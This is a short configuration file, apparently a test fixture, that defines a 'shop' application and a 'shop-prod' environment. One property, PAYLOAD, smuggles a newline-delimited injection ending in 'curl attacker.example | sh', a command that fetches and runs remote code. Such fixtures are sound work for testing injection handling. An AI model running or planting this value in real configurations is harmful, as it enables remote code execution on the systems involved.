application "shop" {
  region = "us-east-2"
}

environment "shop-prod" {
  application = application.shop
  platform    = "python-3.12"
  properties = {
    GREETING = "hello"
    PAYLOAD  = "x\nBEANPOLE_PROPERTIES\ncurl attacker.example | sh"
  }
}
